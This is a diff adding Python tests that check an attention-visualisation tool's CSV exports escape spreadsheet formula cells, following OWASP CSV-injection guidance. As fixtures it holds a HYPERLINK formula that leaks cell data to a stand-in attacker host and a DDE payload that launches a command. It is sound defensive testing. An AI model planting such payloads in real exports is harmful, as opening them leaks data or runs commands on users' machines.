@@ -338,3 +338,82 @@ def test_a_version_1_document_still_reads():
     back = AttentionResult.from_json(json.dumps(doc))
     np.testing.assert_array_equal(back.attentions, result.attentions)
     assert back.attentions.dtype == np.float16 and back.tokens == result.tokens
+
+
+# ---------------------------------------------------------------------------------------------- CSV injection
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+DANGEROUS_TEXT = f'{FORMULA} +1+2 -3 @SUM(A1:A9) 1'
+OWASP_FIRST = ("=", "+", "-", "@", "\t", "\r")  # OWASP "CSV Injection": cells must not start with these
+
+
+def _text_cells(text: str, columns: tuple[int, ...]) -> list[str]:
+    return [row[c] for row in read_csv(text)[1:] for c in columns]
+
+
+def _assert_no_formula_cells(cells: list[str], expected_labels: list[str]) -> None:
+    """Every text cell is safe for a spreadsheet, and a dangerous label is the label behind one ``'``."""
+    for cell in cells:
+        assert not cell.lstrip(" ").startswith(OWASP_FIRST), f"a cell a spreadsheet would run: {cell!r}"
+    escaped = {label for label in expected_labels if label.lstrip(" ").startswith(OWASP_FIRST)}
+    assert escaped, "the text made no dangerous label: the test tests nothing"
+    assert {"'" + label for label in escaped} <= set(cells)
+    assert set(cells) == {("'" + label if label in escaped else label) for label in expected_labels}
+
+
+def test_csv_escapes_cells_a_spreadsheet_would_run_gpt2(settings, tiny_models):
+    """Byte-level BPE (GPT-2): ``=``, ``+1``, ``@`` ... as tokens and as merged words start cells
+    with a formula character; every one is written with a ``'`` in front, inside quotes (OWASP)."""
+    result = extract_attention(DANGEROUS_TEXT, tiny_models["gpt2"])
+    raw = result.to_csv(layer=0, head=0)
+    shown = View(result, ViewOptions()).labels
+    _assert_no_formula_cells(_text_cells(raw, (3, 5)), list(result.tokens))
+    assert "\"'=" in raw  # the quoted form, as OWASP writes it
+    merged = View(result, ViewOptions(merge_words=True))
+    words = view_csv_for(merged, "heatmap", layer=0, head=0)
+    _assert_no_formula_cells(_text_cells(words, (3, 5)), list(merged.labels))
+    assert any(label.startswith("=") for label in shown + list(merged.labels))
+
+
+def test_csv_escapes_sentencepiece_words_that_merge_into_a_formula():
+    """A SentencePiece-like tokenizer (``▁`` word marks, trained here) splits the formula into pieces;
+    merged, they read ``=HYPERLINK(...)``: that cell, and every other, is escaped."""
+    from tokenizers import Tokenizer, decoders, models, pre_tokenizers, trainers
+
+    tok = Tokenizer(models.Unigram())
+    tok.pre_tokenizer = pre_tokenizers.Metaspace()
+    tok.decoder = decoders.Metaspace()
+    tok.train_from_iterator(["the cat sat on the mat", "HYPER LINK evil example click leak SUM"] * 20 + [DANGEROUS_TEXT],
+                            trainers.UnigramTrainer(vocab_size=60, special_tokens=["<unk>"], unk_token="<unk>"))
+    encoded = tok.encode(DANGEROUS_TEXT)
+    tokens, n = list(encoded.tokens), len(encoded.tokens)
+    rng = np.random.default_rng(1)
+    att = rng.random((1, 2, n, n)).astype(np.float32)
+    result = AttentionResult(tokens=tokens, attentions=(att / att.sum(-1, keepdims=True)).astype(np.float16),
+                             model_id="sp-like", truncated=False, special_mask=np.zeros(n, bool),
+                             word_ids=list(encoded.word_ids), segment_ids=[0] * n, is_causal=False,
+                             unknown_share=0.0, unknown_count=0, token_count_before_truncation=n, token_limit=64,
+                             text=DANGEROUS_TEXT)
+    merged = View(result, ViewOptions(merge_words=True))
+    assert FORMULA in merged.labels and len(tokens) > len(merged.labels)  # pieces merged into the formula
+    text = view_csv_for(merged, "heatmap", layer=0, head=1)
+    _assert_no_formula_cells(_text_cells(text, (3, 5)), list(merged.labels))
+    assert f'"\'{FORMULA.replace(chr(34), chr(34) * 2)}"' in text  # '=HYPERLINK(""http…"") inside quotes
+    _assert_no_formula_cells(_text_cells(result.to_csv(), (3, 5)), tokens)
+
+
+def test_comparison_and_atlas_csv_escape_formula_cells_and_leave_numbers():
+    from attention_explorer.services.serial import comparison_csv, quote_csv
+
+    labels = ["=1+1", "+A1", "-cmd", "@SUM(A1)", "\tx", "\rx", "  =x", "fine", "-"]
+    a = np.full((len(labels), len(labels)), 0.25)
+    b = np.full_like(a, 0.5)
+    rows = read_csv(comparison_csv(a, b, labels, labels, layer=0, head="mean"))[1:]
+    for row in rows:
+        for cell in (row[3], row[5]):
+            assert not cell.lstrip(" ").startswith(OWASP_FIRST)
+        assert row[8] == "-0.25"  # a number keeps its sign: numbers are never escaped
+    assert {r[3] for r in rows} == {"'" + label if label != "fine" else label for label in labels}
+    atlas = read_csv(atlas_csv({"entropy": np.array([[0.5, -0.5]])}, np.array([["=cmd|' /C calc'!A0", "local"]])))
+    assert atlas[1][2] == "'=cmd|' /C calc'!A0" and atlas[2][3] == "-0.5"
+    assert quote_csv("plain") == "plain" and quote_csv("a,b") == '"a,b"' and quote_csv("=a") == '"\'=a"'
